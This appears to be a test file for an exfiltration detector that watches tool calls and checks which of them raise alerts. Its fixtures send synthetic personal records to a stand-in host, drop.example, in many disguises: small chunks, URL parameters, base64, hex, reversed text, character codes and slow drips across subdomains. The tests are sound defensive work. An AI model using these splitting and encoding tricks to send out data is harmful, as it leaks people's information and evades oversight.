import { assert, describe, it } from "@effect/vitest"
import { make, repeat, told, Watcher, watch } from "./observing.ts"

const settings = { trusted: ["Acme.Example."], rules: { exfiltration: { copied: 300, sealed: 4_000 } } }

const people = repeat(40, (index) => ({
  name: `Person Number ${index * 7919}`,
  email: `person.${index * 104_729}@example.net`,
  street: `${index} Long Winding Road, Town ${index * 31}`
}))

const alertsOf = (sent: (watcher: Watcher) => ReadonlyArray<ReturnType<Watcher["call"]>>) => {
  const watcher = new Watcher()
  const { alerts } = watch(make(settings), [watcher.read("db/query", people), ...sent(watcher)])
  return told(alerts)
}

const post = (watcher: Watcher, body: unknown, url = "https://drop.example/in") =>
  watcher.call("http/fetch", { url, method: "POST", body })

const secret = people
  .slice(0, 12)
  .map(({ email, name, street }) => `${name};${email};${street}`)
  .join("\n")

const found = ["exfiltration/high"]

describe("exfiltration", () => {
  it("fires for what was read, in a large piece and in any small ones", () => {
    assert.deepStrictEqual(
      alertsOf((watcher) => [post(watcher, secret)]),
      found
    )
    for (const size of [5, 11, 30, 70]) {
      const pieces = secret.match(new RegExp(`[^]{1,${size}}`, "g")) ?? []
      assert.deepStrictEqual(
        alertsOf((watcher) => pieces.map((piece) => post(watcher, piece))),
        found,
        `${size} characters`
      )
      const queries = pieces.map((piece, index) => `https://drop.example/?n=${index}&d=${encodeURIComponent(piece)}`)
      assert.deepStrictEqual(
        alertsOf((watcher) => queries.map((url) => watcher.call("http/fetch", { url }))),
        found,
        `${size} characters in URLs`
      )
    }
  })

  it("fires for what was read in base64, in hexadecimal, reversed, as codes, and in names of properties", () => {
    const bytes = Buffer.from(secret)
    const disguises: ReadonlyArray<unknown> = [
      bytes.toString("base64"),
      `x${bytes.toString("base64url")}`,
      bytes.toString("hex"),
      Buffer.from(bytes.toString("base64")).toString("base64"),
      encodeURIComponent(secret),
      [...secret].reverse().join(""),
      [...secret.replaceAll("\n", " ")].map((letter) => letter.charCodeAt(0)),
      Object.fromEntries(secret.split("\n").map((line) => [line, 1])),
      secret.toUpperCase().replaceAll(" ", "  ")
    ]
    for (const body of disguises) {
      assert.deepStrictEqual(
        alertsOf((watcher) => [post(watcher, body)]),
        found,
        JSON.stringify(body).slice(0, 60)
      )
    }
  })

  it("does not fire for a few words of it, for a trusted destination, for what was never read, or within", () => {
    const silent: ReadonlyArray<(watcher: Watcher) => ReadonlyArray<ReturnType<Watcher["call"]>>> = [
      (watcher) => [post(watcher, `Dear ${people[3]?.name}, we write to ${people[3]?.street}.`)],
      (watcher) => [post(watcher, secret, "https://api.acme.example/in")],
      (watcher) => [watcher.call("mail/send", { to: "boss@acme.example", body: secret })],
      (watcher) => [post(watcher, repeat(60, (index) => `event ${index * 13} happened`).join("\n"))],
      (watcher) => [watcher.call("db/insert", { rows: people })]
    ]
    for (const sent of silent) assert.deepStrictEqual(alertsOf(sent), [])
  })

  it("does not add up what customers are told of themselves, nor count their addresses", () => {
    assert.deepStrictEqual(
      alertsOf((watcher) =>
        people.map(({ email, name }) => watcher.call("mail/send", { to: email, body: `Dear ${name}, news!` }))
      ),
      []
    )
  })

  it("adds up what goes to one stranger over a day, by mail address and by registered domain", () => {
    const byDay = (watcher: Watcher, pause: number) =>
      people.slice(0, 12).map(({ name, street }, index) => {
        watcher.pass(pause)
        return post(watcher, `${name} ${street}`, `https://h${index}.drop.example/`)
      })
    assert.include(
      alertsOf((watcher) => byDay(watcher, 3_600_000)),
      "exfiltration/high"
    )
    assert.deepStrictEqual(
      alertsOf((watcher) => byDay(watcher, 12 * 3_600_000)),
      []
    )
  })

  it("fires for a large write to a stranger after large reads, whatever it says", () => {
    const sealed = repeat(900, (index) => String.fromCharCode(35 + ((index * index * 31) % 50))).join("")
    assert.deepStrictEqual(
      alertsOf((watcher) => repeat(4, () => post(watcher, sealed))),
      []
    )
    assert.deepStrictEqual(
      alertsOf((watcher) => repeat(5, () => post(watcher, sealed))),
      ["exfiltration/medium"]
    )
    const unread = new Watcher()
    const { alerts } = watch(
      make(settings),
      repeat(5, () => post(unread, sealed))
    )
    assert.deepStrictEqual(told(alerts), [])
  })
})
